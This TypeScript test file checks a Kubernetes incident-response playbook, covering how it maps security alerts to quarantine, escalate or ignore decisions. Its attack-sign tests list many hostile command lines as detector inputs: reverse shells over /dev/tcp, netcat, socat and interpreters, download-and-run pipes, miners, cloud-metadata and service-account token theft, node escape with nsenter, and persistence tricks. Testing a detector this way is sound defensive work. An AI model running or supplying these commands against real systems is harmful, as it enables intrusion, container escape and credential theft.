import fc from 'fast-check';

import type { Alert } from '../../core/incident/alert';
import { CONTAINER_KINDS, type PodFacts, RIGHTS_CLASSES } from '../../core/incident/podFacts';
import { actsByPlaybook, answerTo, playbook, strongest } from '../../core/policy/playbook';
import { applyPolicy } from '../../core/policy/policy';
import { acts, level } from '../../core/policy/strength';
import { FALCO_TABLE, REPORT_TABLE } from '../../core/policy/table';
import { MINOR_REPORTS } from '../../core/policy/table/reports';
import type { Conditions } from '../../core/policy/table/conditions';
import { signsOf } from '../../core/policy/table/raise';
import { REACH_SIGNS } from '../../core/policy/table/reachSigns';
import { SHELL_SIGNS } from '../../core/policy/table/shellSigns';
import { wantsContainFirst } from '../../core/policy/wantsContainFirst';
import { alertOf, contextOf, normaliseAlert, payload, RECEIVED_AT } from '../support/alerts';
import { factsWith } from '../support/pods';
import { relatedOf } from '../support/related';

const CONTACT = 'Contact K8S API Server From Container';
const SHELL = 'Terminal shell in container';
const DROP = 'Drop and execute new binary in container';

/** An alert without any text of the pod's. */
const plain = (rule: string): Alert => alertOf('pod-quarantine-test', { rule, tags: [], fields: {}, output: '' });
const withCommand = (rule: string, command: string, program = 'sh'): Alert => ({
  ...plain(rule),
  fields: { 'proc.cmdline': command, 'proc.name': program },
});
const given = (alert: Alert, facts?: PodFacts) => ({ ...contextOf(alert), ...(facts === undefined ? {} : { facts }) });
const decided = (alert: Alert, facts?: PodFacts) => playbook(alert, given(alert, facts)).decision;

const account = (rights: PodFacts['serviceAccount']['rights'], tokenMounted: boolean | null = true) =>
  factsWith({ serviceAccount: { name: 'x', own: true, tokenMounted, rights, may: [] } });
const inKind = (kind: PodFacts['container']['kind']) =>
  factsWith({ container: { kind, name: 'x', pinned: null, startedAt: null, ranSeconds: null, restarts: null } });
const agent = factsWith({ owner: 'DaemonSet', access: ['host_path'] });

/** Facts that meet a row's conditions. */
function factsFor({ kind, token, rights, owner, runsOnce, programs, nodeAccess, judged }: Conditions): PodFacts {
  const usual = factsWith();
  return {
    ...usual,
    container: { ...usual.container, kind: kind?.[0] ?? 'container' },
    serviceAccount: { ...usual.serviceAccount, tokenMounted: token ?? true, rights: rights?.[0] ?? 'none' },
    owner: owner?.[0] ?? 'ReplicaSet',
    runsOnce: runsOnce ?? false,
    programs: [...(programs ?? [])],
    access: nodeAccess === true ? ['host_path'] : [],
    history:
      judged === undefined ? null : { incidents: judged, workloads: 1, falsePositives: judged, truePositives: 0 },
  };
}

describe('every row', () => {
  const rows = [...FALCO_TABLE.values()].flat();

  test.each(rows.filter(([, when]) => Object.keys(when).length > 0))(
    'of %s with %j is reached',
    (rule, when, answer) => {
      expect(answerTo(plain(rule), given(plain(rule), factsFor(when)))).toEqual(answer);
    },
  );

  test.each(rows.filter(([, when]) => Object.keys(when).length === 0))(
    'of %s without conditions is reached',
    (rule, _, answer) => {
      expect(answerTo(plain(rule))).toEqual(answer);
    },
  );

  test.each([...REPORT_TABLE.values()].flat())('of the report %s is reached', (rule, _, answer) => {
    const report = { ...plain(rule), source: 'alertmanager', trust: 'report', priority: 'warning' } as const;
    expect(answerTo(report)).toEqual(answer);
  });

  test.each([...MINOR_REPORTS])('of the report %s below a warning is reached', (rule, answer) => {
    const report = { ...plain(rule), source: 'kyverno', trust: 'report' } as const;
    for (const priority of ['informational', 'notice'] as const)
      expect(answerTo({ ...report, priority })).toEqual(answer);
    for (const priority of ['warning', 'unknown'] as const)
      expect(answerTo({ ...report, priority })).not.toEqual(answer);
  });
});

describe('the facts decide', () => {
  test.each<[string, PodFacts | undefined, string]>([
    ['no rights', account('none'), 'quarantine_pod'],
    ['no token, whatever its rights', account('own', false), 'quarantine_pod'],
    ['rights of its own', account('own'), 'ignore'],
    [
      'rights of its own, and a specification that does not say whether a token is mounted',
      account('own', null),
      'ignore',
    ],
    ['powerful rights', account('powerful'), 'ignore'],
    ['rights that could not be read', account('unknown'), 'escalate'],
    ['facts that were not read', undefined, 'quarantine_pod'],
  ])(`${CONTACT}: %s`, (_what, facts, expected) => {
    expect(decided(plain(CONTACT), facts)).toBe(expected);
  });

  test('and what could not be read is named as what would have decided', () => {
    expect(playbook(plain(CONTACT), given(plain(CONTACT), account('unknown'))).reason).toContain('would decide');
  });

  test.each(['init', 'ephemeral'] as const)('no rule acts on an %s container', (kind) => {
    for (const rule of [...FALCO_TABLE.keys(), 'Another rule'])
      for (const tags of [[], ['T1611']]) {
        const alert: Alert = { ...plain(rule), tags, priority: 'critical' };
        const answer = answerTo(alert, given(alert, inKind(kind)));
        expect([rule, acts(answer.decision), answer.containFirst]).toEqual([rule, false, false]);
      }
  });

  test.each(['Search Private Keys or Passwords', 'Find AWS Credentials'])('%s by an agent or a job', (rule) => {
    const search = withCommand(rule, 'find / -name id_rsa', 'find');
    expect(decided(search, agent)).toBe('escalate');
    expect(decided(search, factsWith({ owner: 'DaemonSet' }))).toBe('quarantine_pod');
    expect(decided(search, factsWith({ runsOnce: true }))).toBe('escalate');
    expect(decided(search, factsWith())).toBe('quarantine_pod');
    expect(decided(withCommand(rule, 'grep -q BEGIN RSA PRIVATE KEY /certs/a.pem', 'grep'), factsWith())).toBe(
      'escalate',
    );
    expect(decided(plain(rule))).toBe('quarantine_pod');
  });

  test.each<[number, number, string, string]>([
    [2, 0, DROP, 'escalate'],
    [1, 0, DROP, 'quarantine_pod'],
    [9, 1, DROP, 'quarantine_pod'],
    [9, 0, 'Netcat Remote Code Execution in Container', 'escalate'],
    [9, 1, 'Netcat Remote Code Execution in Container', 'delete_pod'],
    [9, 0, SHELL, 'ignore'],
    [9, 1, SHELL, 'escalate'],
  ])(
    'people who judged no attack %i times, and an attack %i times: %s',
    (falsePositives, truePositives, rule, expected) => {
      const history = { incidents: 12, workloads: 1, falsePositives, truePositives };
      expect(decided(plain(rule), factsWith({ history }))).toBe(expected);
    },
  );

  test('on whether a pod is contained first', () => {
    const context = given(plain(DROP), factsWith());
    const first = { ...context.policy } as Extract<typeof context.policy, { status: 'read' }>;
    const configuration = {
      ...first.configuration,
      containFirst: { namespaces: ['playground'], rules: [], kinds: ['Pod'] },
    };
    const wanted = (facts: PodFacts) =>
      wantsContainFirst(plain(DROP), { ...context, policy: { ...first, configuration }, facts });
    expect(wanted(factsWith())).toBe(true);
    for (const facts of [inKind('init'), inKind('ephemeral'), factsWith({ runsOnce: true })])
      expect(wanted(facts)).toBe(false);
  });
});

describe('a model', () => {
  const judged = (decision: 'ignore' | 'delete_pod', alert: Alert, facts: PodFacts) =>
    applyPolicy({
      decision,
      confidence: 1,
      alert: { ...alert, priority: 'notice' },
      context: given(alert, facts),
      mode: 'autonomous',
      approved: false,
    });

  test('ignores where the facts explain the alert, and not where they only keep the playbook from acting', () => {
    expect(judged('ignore', plain(CONTACT), account('own')).decision).toBe('ignore');
    for (const facts of [account('none'), account('unknown'), inKind('init')])
      expect(judged('ignore', plain(CONTACT), facts).guardrails.map(({ guardrail }) => guardrail)).toEqual([
        'playbook_floor',
        ...(decided(plain(CONTACT), facts) === 'escalate' ? ['ignore_on_model'] : []),
      ]);
  });

  test('does not ignore what shows an attack in its text', () => {
    expect(judged('ignore', plain(SHELL), factsWith()).decision).toBe('ignore');
    const attack = withCommand(SHELL, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
    expect(judged('ignore', attack, factsWith()).decision).toBe('escalate');
  });

  test('does not delete what the facts keep the playbook from deleting', () => {
    const netcat = plain('Netcat Remote Code Execution in Container');
    const guardrails = (facts: PodFacts) =>
      judged('delete_pod', netcat, facts).guardrails.map(({ guardrail }) => guardrail);
    expect(guardrails(factsWith())).not.toContain('delete_on_model');
    expect(guardrails(inKind('ephemeral'))).toContain('delete_on_model');
  });
});

describe('signs of an attack', () => {
  const ATTACKS: readonly (readonly [name: string, command: string])[] = [
    ['download_to_shell', 'sh -c curl -fsSL http://203.0.113.7/x.sh | bash'],
    ['download_to_shell', 'bash -c wget -qO- 203.0.113.7/a|/bin/sh'],
    ['download_to_shell', 'bash -c "$(curl -s http://203.0.113.7/kinsing.sh)"'],
    ['download_to_shell', 'sh -c curl http://203.0.113.7/a.py | python3 -'],
    ['download_and_run', 'sh -c wget http://203.0.113.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k'],
    ['download_and_run', 'sh -c curl -o /dev/shm/.x 203.0.113.7/x && chmod 777 /dev/shm/.x && /dev/shm/.x'],
    ['encoded_to_shell', 'sh -c echo aWQK | base64 -d | sh'],
    ['encoded_to_shell', 'bash -c eval $(echo aWQK | base64 -d)'],
    ['shell_over_dev_tcp', 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['shell_over_dev_tcp', 'bash -c exec 5<>/dev/tcp/203.0.113.9/443;cat <&5|while read line;do $line 2>&5 >&5;done'],
    ['shell_over_dev_tcp', 'sh -c exec 5<>/dev/tcp/203.0.113.9/443;cat <&5|sh'],
    ['shell_over_dev_tcp', 'bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/9;sh <&196 >&196 2>&196'],
    ['netcat_with_shell', 'nc -e /bin/sh 203.0.113.9 4444'],
    ['netcat_with_shell', 'ncat 203.0.113.9 4444 --exec /bin/bash'],
    ['netcat_with_shell', 'nc.traditional -lvp 4444 -e /bin/bash'],
    ['shell_over_pipe', 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'],
    [
      'shell_by_interpreter',
      `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("sh")`,
    ],
    ['shell_by_interpreter', `perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");`],
    ['shell_by_interpreter', `php -r $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");`],
    [
      'shell_by_interpreter',
      `ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)`,
    ],
    ['socat_with_shell', `socat TCP:203.0.113.9:4444 EXEC:'/bin/bash',pty,stderr,setsid`],
    ['miner', './x -o stratum+tcp://pool.example.org:3333 -u 4A'],
    ['miner', '/tmp/kdevtmpfsi --donate-level=1'],
    ['miner', '/usr/local/bin/xmrig -c /etc/c.json'],
    ['cloud_credentials', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node'],
    [
      'cloud_credentials',
      'wget http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    [
      'service_account_token',
      'sh -c curl -k -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes',
    ],
    ['kubelet_or_etcd', 'curl -k https://10.0.0.4:10250/run/kube-system/etcd/etcd -d cmd=id'],
    ['kubelet_or_etcd', 'etcdctl --endpoints=https://10.0.0.4:2379 get / --prefix --keys-only'],
    ['container_runtime', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json'],
    ['container_runtime', 'docker run -v /:/host --privileged alpine'],
    ['way_to_the_node', 'nsenter -t 1 -m -u -n -i sh'],
    ['way_to_the_node', 'nsenter --target 1 --mount'],
    ['way_to_the_node', 'chroot /host bash'],
    ['foothold', 'sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'],
    ['foothold', 'sh -c echo /tmp/x.so > /etc/ld.so.preload'],
    ['foothold', 'sh -c (crontab -l; echo x) | crontab -'],
  ];

  test.each(ATTACKS)('%s: %s', (name, command) => {
    const alert = withCommand(SHELL, command);
    expect(signsOf(alert, factsWith()).map((sign) => sign.name)).toContain(name);
    expect(playbook(alert, given(alert, factsWith()))).toMatchObject({
      decision: 'quarantine_pod',
      reason: expect.stringContaining("The alert's text shows") as string,
    });
    expect(actsByPlaybook(alert)).toBe(true);
    // What masking leaves of it still shows it.
    const fields = { 'proc.cmdline': command, 'proc.name': 'sh' };
    const received = normaliseAlert(payload('test-shell', {}, fields), RECEIVED_AT, 'kernel');
    expect(signsOf(received, factsWith()).map((sign) => sign.name)).toContain(name);
    for (const kind of ['init', 'ephemeral'] as const) expect(decided(alert, inKind(kind))).toBe('escalate');
  });

  test.each<[string, string, PodFacts['serviceAccount']['rights'], boolean, string]>([
    ['client_by_hand', 'curl', 'own', false, 'escalate'],
    ['client_by_hand', 'sh', 'powerful', false, 'escalate'],
    ['client_by_hand', 'curl', 'own', true, 'ignore'],
    ['client_by_hand', 'argocd-server', 'powerful', false, 'ignore'],
    ['client_by_hand', 'kubectl', 'powerful', false, 'escalate'],
    ['client_by_hand', 'kubectl', 'powerful', true, 'ignore'],
    ['client_by_hand', 'kubectl', 'own', false, 'escalate'],
  ])('%s: %s with rights %s in a pod that runs to its end (%s)', (name, program, rights, runsOnce, expected) => {
    const alert = withCommand(CONTACT, program, program);
    const facts = { ...account(rights), runsOnce };
    expect(decided(alert, facts)).toBe(expected);
    expect(signsOf(alert, facts).some((sign) => sign.name === name)).toBe(expected === 'escalate');
  });

  test('every sign is reached above', () => {
    const named = new Set([...ATTACKS.map(([name]) => name), 'client_by_hand']);
    expect([...SHELL_SIGNS, ...REACH_SIGNS].map(({ name }) => name).toSorted()).toEqual([...named].toSorted());
  });

  test.each([
    "bash -c exec 3<>/dev/tcp/127.0.0.1/8080 && printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3",
    'bash -c until (exec 3<>/dev/tcp/postgres/5432) 2>/dev/null; do sleep 1; done',
    'nc -z -w 2 postgres 5432',
    'sh -c until nc -z redis 6379; do sleep 1; done',
    'sh -c wget -qO- http://127.0.0.1:8080/healthz | grep -q ok',
    'curl -sf http://localhost:8080/healthz',
    'bash',
    'bash -i',
    'sh -c clear; (bash || ash || sh)',
    'etcdctl --endpoints=https://127.0.0.1:2379 endpoint health',
    'curl -s http://169.254.169.254/latest/meta-data/placement/region',
    'python3 -m http.server 8000',
    'grep -r xmrig /rules',
    'grep -rE stratum+tcp://|supportxmr.com /src',
    'pg_isready -U postgres',
    'sh -c echo $SECRET | base64 -d > /etc/app/key.pem',
    'crontab -l',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace',
    'docker build -t app .',
    'node server.js --socket /tmp/app.sock',
  ])('none in: %s', (command) => {
    expect(signsOf(withCommand(SHELL, command), factsWith()).map(({ name }) => name)).toEqual([]);
  });

  test('a client that the specification declares is not one by hand', () => {
    const alert = withCommand(CONTACT, 'kubectl proxy', 'kubectl');
    expect(decided(alert, { ...account('own'), declared: 'command' })).toBe('ignore');
    expect(decided(alert, account('own'))).toBe('escalate');
  });

  test('a download that the specification declares shows nothing, in its own process or as the parent', () => {
    const command = 'sh -c curl -fsSL http://example.org/install.sh | bash';
    expect(decided(withCommand(SHELL, command), factsWith({ declared: 'post_start_hook' }))).toBe('ignore');
    const child = { ...withCommand(SHELL, 'curl x'), fields: { 'proc.cmdline': 'curl x', 'proc.pcmdline': command } };
    expect(decided(child, factsWith({ parentDeclared: 'command' }))).toBe('ignore');
    expect(decided(child, factsWith({ declared: 'command' }))).toBe('quarantine_pod');
    const reverse = withCommand(SHELL, 'nc -e /bin/sh 203.0.113.9 4444');
    expect(decided(reverse, factsWith({ declared: 'command' }))).toBe('quarantine_pod');
  });

  test("an agent's way into its node goes to a person: no NetworkPolicy would hold it", () => {
    expect(decided(withCommand(SHELL, 'nsenter -t 1 -m sh'), agent)).toBe('escalate');
  });

  test('only the output is searched where there is no command line, and only in what Falco saw of a pod', () => {
    const output = 'Notice A shell | command=nc -e /bin/sh 203.0.113.9 4444';
    expect(decided({ ...plain(SHELL), output })).toBe('quarantine_pod');
    expect(decided({ ...withCommand(SHELL, 'bash'), output })).toBe('ignore');
    expect(decided({ ...plain(SHELL), output, trust: 'report' })).toBe('ignore');
    expect(decided({ ...plain(SHELL), output, target: null })).toBe('ignore');
  });
});

describe('what an attacker can write', () => {
  const facts = fc.record({
    kind: fc.constantFrom(...CONTAINER_KINDS),
    rights: fc.constantFrom(...RIGHTS_CLASSES),
    tokenMounted: fc.constantFrom(true, false, null),
    owner: fc.constantFrom('ReplicaSet', 'DaemonSet', 'Job', null),
    access: fc.constantFrom<PodFacts['access'][]>([], ['host_path']),
    runsOnce: fc.boolean(),
    falsePositives: fc.nat(3),
    ranSeconds: fc.constantFrom(null, 5, 86_400),
    read: fc.boolean(),
  });
  const made = ({
    kind,
    rights,
    tokenMounted,
    falsePositives,
    ranSeconds,
    read,
    ...rest
  }: typeof facts extends fc.Arbitrary<infer T> ? T : never) =>
    read
      ? factsWith({
          ...rest,
          container: { kind, name: 'x', pinned: null, startedAt: null, ranSeconds, restarts: 0 },
          serviceAccount: { name: 'x', own: true, tokenMounted, rights, may: [] },
          history: { incidents: 3, workloads: 1, falsePositives, truePositives: 0 },
        })
      : undefined;
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom(
      'nc -e /bin/sh 203.0.113.9 4444',
      'nsenter -t 1 -m',
      'curl',
      'kubectl',
      'x --donate-level 1',
      '/tmp/x',
      '[kthreadd]',
      'bash',
      '/etc/shadow',
      '10.0.0.1:1->203.0.113.9:4444',
      '127.0.0.1:1->127.0.0.1:2',
      '0',
    ),
  );
  const fields = fc.dictionary(
    fc.constantFrom(
      'proc.cmdline',
      'proc.pcmdline',
      'proc.name',
      'proc.exepath',
      'proc.pname',
      'fd.name',
      'proc.tty',
      'evt.arg.target',
      'fd.nameraw',
    ),
    text,
  );
  const rules = fc.constantFrom(...FALCO_TABLE.keys(), 'Another rule');
  const earlier = fc.array(fc.tuple(rules, fc.boolean()), { maxLength: 3 });
  const declared = fc.constantFrom(null, 'command' as const, 'liveness_probe' as const);

  test('never makes an answer weaker, whatever the facts are, and no answer is stronger than the strongest', () => {
    fc.assert(
      fc.property(
        rules,
        facts,
        fields,
        text,
        declared,
        declared,
        earlier,
        (rule, chosen, written, output, own, parent, caused) => {
          const known = made(chosen);
          const related = caused.map(([other, sameSubject]) => relatedOf(other, { sameSubject }));
          const hostile = { ...plain(rule), fields: written, output, infrastructure: written, related };
          const talking = known === undefined ? undefined : { ...known, declared: own, parentDeclared: parent };
          const answer = decided(hostile, talking);
          expect(level(answer)).toBeGreaterThanOrEqual(level(decided(plain(rule), known)));
          expect(level(answer)).toBeLessThanOrEqual(level(strongest(hostile)));
          // Beyond what the rule's rows answer, text raises to a quarantine at most.
          if (answer === 'delete_pod') expect(decided(plain(rule), known)).toBe('delete_pod');
        },
      ),
      { numRuns: 1000 },
    );
  });
});
